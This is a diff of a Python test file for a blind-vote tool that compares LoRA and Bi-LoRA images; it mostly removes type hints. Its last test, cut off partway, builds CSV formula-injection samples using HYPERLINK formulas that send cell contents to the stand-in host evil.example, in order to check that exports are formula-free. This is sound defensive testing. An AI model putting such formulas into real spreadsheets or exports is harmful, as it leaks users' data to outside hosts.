@@ -1,7 +1,5 @@
 """Blind votes: sides by chance, nothing lost, and a count that is the same from both sides."""
 
-from __future__ import annotations
-
 import base64
 import csv
 import io
@@ -14,7 +12,7 @@ import threading
 from collections import Counter
 from dataclasses import replace
 from itertools import pairwise
-from pathlib import Path
+from typing import Any
 
 import pytest
 from PIL import Image, ImageColor
@@ -29,20 +27,20 @@ from tests.app.folders import make_scores
 COLORS = {"LoRA": "teal", "Bi-LoRA": "orange"}
 
 
-def made(root: Path, prompts: int = 5) -> Polls:
+def made(root, prompts=5):
     """Polls of a root with one score folder of a general prompt and others, two seeds each."""
     texts = [*(f"icon {at}" for at in range(prompts)), "a photo"]
     make_scores(root / "scores", tuple(COLORS), texts, seeds=(0, 1))
     return Polls(Catalog(root), random.Random(0))
 
 
-def booth(number: int, session: str, left: str = "LoRA", prompt: str = "icon") -> Booth:
+def booth(number, session, left="LoRA", prompt="icon"):
     """A booth with a ballot of a pair of its own."""
     sides = [Side(label, "aa", f"{label}.png") for label in (left, "Bi-LoRA")]
     return Booth(session, "scores", None, 0, 1, Ballot("scores", prompt, number, *sides))
 
 
-def test_only_images_of_one_prompt_and_seed_are_paired(tmp_path: Path) -> None:
+def test_only_images_of_one_prompt_and_seed_are_paired(tmp_path):
     scores = make_scores(tmp_path, ("c", "a", "b"), ("icon 0", "icon 1", "a photo"), (0, 1))
     del scores.images["b", "icon 1", 0]
     pairs = ballots("scores", scores)
@@ -56,7 +54,7 @@ def test_only_images_of_one_prompt_and_seed_are_paired(tmp_path: Path) -> None:
     assert [(p.left.label, p.right.label) for p in chosen] == [("a", "c")] * 4
 
 
-def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path: Path) -> None:
+def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path):
     polls, pairs = made(tmp_path), []
     now = polls.open("scores", ANY, "me")
     while now.ballot is not None:
@@ -75,7 +73,7 @@ def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path: P
     assert polls.cast(now, "left").ballot is None
 
 
-def test_sides_are_drawn_by_a_fair_coin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sides_are_drawn_by_a_fair_coin(tmp_path, monkeypatch):
     polls, n = made(tmp_path, prompts=1), 300
     monkeypatch.setattr(parts, "below", lambda catalog, path: "data:")
     drawn = [polls.open("scores", ANY, "me") for _ in range(n)]
@@ -87,7 +85,7 @@ def test_sides_are_drawn_by_a_fair_coin(tmp_path: Path, monkeypatch: pytest.Monk
         assert abs(hits - n / 2) < 4 * math.sqrt(n) / 2
 
 
-def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path: Path) -> None:
+def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path):
     polls = made(tmp_path, prompts=2)
     now = polls.open("scores", ANY, "me")
     while now.ballot is not None:
@@ -105,36 +103,32 @@ def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path: Path) -> 
     assert (tally.wins + tally.losses, voters) == (4, 1)
 
 
-def test_a_vote_counts_the_same_from_both_sides_and_not_for_weights_trained_again(
-    tmp_path: Path,
-) -> None:
+def test_a_vote_counts_the_same_from_both_sides_and_not_for_weights_trained_again(tmp_path):
     a, b = "Bi-LoRA", "LoRA"
     cast = [(b, a, b), (b, a, ""), (a, b, b), (a, b, ""), (a, b, a)]
     rows = [Vote("", "", "", 0, left, right, "", won, "", "") for left, right, won in cast]
     (tally,) = tallies(rows)
     assert tally == Tally(a, b, wins=1, ties=2, losses=2)
     interval = win_rate_interval(1, 2, 2)
-    assert interval is not None
     rate = f"40 % ({100 * interval.low:.0f}–{100 * interval.high:.0f})"
     shown = vote.table([tally], 1)
     assert all(words in shown for words in ("<b>Bi-LoRA</b> over LoRA", "1, 2, 2", rate))
     polls = made(tmp_path, prompts=1)
-    now = polls.open("scores", ANY, "me")
-    assert now.ballot is not None
+    now: Any = polls.open("scores", ANY, "me")
     older = replace(now.ballot, left=now.ballot.left._replace(digest="older"))
     polls.cast(replace(now, ballot=older), "left")
     assert len(polls.votes()) == 1
     assert polls.result("scores", ANY) == ([], 0)
 
 
-def cast_many(root: Path, session: str, count: int) -> None:
+def cast_many(root, session, count):
     polls = Polls(Catalog(root), random.Random())
     for at in range(count):
         polls.cast(booth(at, session), ("left", "right", "tie")[at % 3])
 
 
 @pytest.mark.slow
-def test_threads_and_processes_lose_nothing(tmp_path: Path) -> None:
+def test_threads_and_processes_lose_nothing(tmp_path):
     polls, fork = made(tmp_path, prompts=1), multiprocessing.get_context("fork")
     jobs = [(tmp_path, f"voter {number}", 9) for number in range(6)]
     workers = [threading.Thread(target=cast_many, args=job) for job in jobs[:3]]
@@ -146,7 +140,7 @@ def test_threads_and_processes_lose_nothing(tmp_path: Path) -> None:
     assert Counter(v.session for v in polls.votes()) == {name: 9 for _, name, _ in jobs}
 
 
-def cast_and_die(root: Path) -> None:
+def cast_and_die(root):
     polls = Polls(Catalog(root), random.Random())
     polls.cast(booth(0, "me"), "left")
     with polls._file() as file:
@@ -154,7 +148,7 @@ def cast_and_die(root: Path) -> None:
         os.kill(os.getpid(), signal.SIGKILL)
 
 
-def test_votes_survive_a_crash(tmp_path: Path) -> None:
+def test_votes_survive_a_crash(tmp_path):
     polls = made(tmp_path, prompts=1)
     worker = multiprocessing.get_context("fork").Process(target=cast_and_die, args=(tmp_path,))
     worker.start()
@@ -164,7 +158,7 @@ def test_votes_survive_a_crash(tmp_path: Path) -> None:
     assert len(polls.votes()) == 2
 
 
-def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path: Path) -> None:
+def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path):
     polls = made(tmp_path, prompts=1)
     assert polls.votes() == []
     assert not (tmp_path / FILE).exists(), "reading makes nothing"
@@ -180,7 +174,7 @@ def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path: Path) -> No
         polls.open("scores", ANY, "me")
 
 
-def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path: Path) -> None:
+def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path):
     polls, odd = made(tmp_path, prompts=1), 'a "ToK", icon\nof two lines'
     polls.cast(booth(7, "me", prompt=odd), "tie")
     formulas = [f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")' for begin in FORMULA]
